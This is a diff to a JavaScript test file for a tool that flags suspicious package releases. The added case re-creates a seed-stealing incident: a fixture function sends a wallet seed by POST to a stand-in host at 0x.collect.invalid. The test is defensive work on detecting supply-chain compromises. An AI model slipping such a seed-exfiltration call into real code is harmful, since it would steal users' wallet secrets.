@@ -236,6 +236,14 @@ describe('documented shapes, re-created without their payload', () => {
       'destination-added',
     ],
     [
+      'xrpl-2025: a seed leaves in an ordinary function, in built code only',
+      at('1.0.1', {
+        'index.js':
+          "export const add = (a, b) => a + b;\nfunction check(seed) { fetch('https://0x.collect.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed }, body: JSON.stringify({ seed }) }); }\nexport function fromSeed(s) { check(s); return s; }",
+      }),
+      'destination-added',
+    ],
+    [
       'faker-2022: no code left',
       { 'package.json': manifest('6.6.6', { main: undefined }), 'README.md': 'What happened?' },
       'main-code-vanished',
